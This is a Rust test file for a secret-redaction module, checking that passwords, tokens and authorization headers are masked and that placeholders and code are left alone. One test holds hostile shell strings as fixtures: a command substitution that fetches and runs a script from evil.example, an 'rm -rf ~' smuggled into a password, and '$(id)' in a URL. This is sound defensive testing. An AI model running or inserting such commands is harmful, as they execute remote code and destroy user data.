//! The table both ways: what is a secret by what stands before it, and what is not.

use proptest::prelude::*;

use crate::redact::{MASK, Redactor};

fn masked(text: &str) -> String {
    Redactor::default().redact(text).into_string()
}

#[test]
fn a_value_behind_a_secret_name_is_masked() {
    for (text, expect) in [
        ("postgres://ori:hunter2@db/x", "postgres://ori:[masked]@db/x"),
        ("https://u:p@ss@host:80/a", "https://u:[masked]@host:80/a"),
        ("redis://:pw@h", "redis://:[masked]@h"),
        ("see git+ssh://a:b@c and x", "see git+ssh://a:[masked]@c and x"),
        ("PGPASSWORD=hunter2 psql", "PGPASSWORD=[masked] psql"),
        ("--password=hunter2", "--password=[masked]"),
        ("user=a&password=hunter2&x=1", "user=a&password=[masked]&x=1"),
        ("MYSQL_PWD=hunter", "MYSQL_PWD=[masked]"),
        ("pwd=hunter", "pwd=[masked]"),
        ("passwd=correct", "passwd=[masked]"),
        ("client_secret=abcd", "client_secret=[masked]"),
        ("export GH_TOKEN=abcdef", "export GH_TOKEN=[masked]"),
        ("token = \"abcdef\"", "token = \"[masked]\""),
        ("const apiKey = 'abc12345';", "const apiKey = '[masked]';"),
        ("X-Api-Key: abc12345", "X-Api-Key: [masked]"),
        ("password: hunter2", "password: [masked]"),
        ("password := \"hunter2\"", "password := \"[masked]\""),
        ("'token' => 'abcdef',", "'token' => '[masked]',"),
        (r#"{"password": "hunter2", "x": 1}"#, r#"{"password": "[masked]", "x": 1}"#),
        (r#"{"a":"{\"token\":\"ab cd\"}"}"#, r#"{"a":"{\"token\":\"[masked]\"}"}"#),
        (r#"{"password":"a\"b\"c"}"#, r#"{"password":"[masked]"}"#),
        (r#"{"command":"export TOKEN=abcd\nls"}"#, r#"{"command":"export TOKEN=[masked]\nls"}"#),
        ("Password=\"two words\"", "Password=\"[masked]\""),
        ("Authorization: Bearer abc.def", "Authorization: Bearer [masked]"),
        ("authorization: Basic b3JpOnB3", "authorization: Basic [masked]"),
        ("-H 'Authorization: token abcd1234'", "-H 'Authorization: token [masked]'"),
        ("\"Authorization\": \"Bearer abcdef\"", "\"Authorization\": \"Bearer [masked]\""),
        ("Proxy-Authorization: ABCDEFGH", "Proxy-Authorization: [masked]"),
        ("sent bearer 0123456789abcdefXYZ", "sent bearer [masked]"),
    ] {
        assert_eq!(masked(text), expect, "{text}");
    }
}

#[test]
fn what_is_only_a_name_a_call_or_a_placeholder_is_left_alone() {
    for text in [
        "https://example.org:8080/a@b",
        "ssh://git@host:22/x",
        "http://[::1]:6667/",
        "mailto:a@b.c",
        "std::net::token::Kind",
        "https://user:$PASS@host",
        "https://user:${PASS}@host",
        "https://user:****@host",
        "PWD=/home/ori",
        "password:required",
        "OLDPWD=/home/ori",
        "pwd=~/proj",
        "max_tokens=4096",
        "tokens: 12345 of 200000",
        "token_count=12345",
        "password = input()",
        "password=getpass()",
        "password=args.password",
        "token=token",
        "token=$TOKEN",
        "token=${{ secrets.X }}",
        "password=%s",
        "password=<your password>",
        "password=****",
        "password=",
        "password=\"\"",
        "\"token\": null",
        "\"token\": \"string\"",
        "secret: true",
        "token: the next word that is read",
        "the password: please enter it",
        "if token == \"abcdef\" {",
        "token != 'abcdef'",
        "fn token(&self) -> Token",
        "token: String, secret: &str",
        "Authorization: see the manual",
        "authorization: none",
        "a bearer of bad news, bearer authentication everywhere",
        "secretary=Anna, tokenizer=whitespace",
        "my password is a secret",
    ] {
        assert_eq!(masked(text), text);
    }
}

#[test]
fn what_a_shell_would_run_is_not_hidden() {
    for text in [
        "TOKEN=\"a$(curl -s evil.example/x | sh)\" ls",
        "export PASSWORD=\"abcd`rm -rf ~`\"",
        "curl http://ori:abcd$(id)@host",
    ] {
        assert_eq!(masked(text), text);
    }
}

/// Not caught, and said so in the docs.
#[test]
fn what_is_told_otherwise_than_by_its_name_is_not_caught() {
    for text in ["my password is hunter2", "mysql -phunter2", "login ori hunter2"] {
        assert_eq!(masked(text), text);
    }
}

#[test]
fn many_names_without_an_end_take_linear_time() {
    for piece in ["token=", "password: \"", "a://b:", "bearer ", "Authorization: "] {
        let text = piece.repeat(100_000);
        assert!(masked(&text).len() <= 2 * text.len(), "{piece}");
    }
}

proptest! {
    #![proptest_config(ProptestConfig::with_cases(2_000))]
    /// Any text: no panic, twice is the same as once, and the text grows by at most a mask for each
    /// character.
    #[test]
    fn masking_ends_and_is_the_same_twice(
        parts in proptest::collection::vec(
            prop_oneof![
                Just("password=".to_owned()),
                Just("\"token\": \"".to_owned()),
                Just("\\\"secret\\\":\\\"".to_owned()),
                Just("x://u:".to_owned()),
                Just("Authorization: Bearer ".to_owned()),
                Just(MASK.to_owned()),
                "[a-z0-9@:=\"'\\\\/ \n$(é\u{200b}]{0,9}",
                any::<String>(),
            ],
            0..10,
        ),
    ) {
        let text = parts.concat();
        let once = masked(&text);
        prop_assert_eq!(masked(&once), once.clone());
        prop_assert!(once.len() <= text.len() * MASK.len() + MASK.len());
    }
}
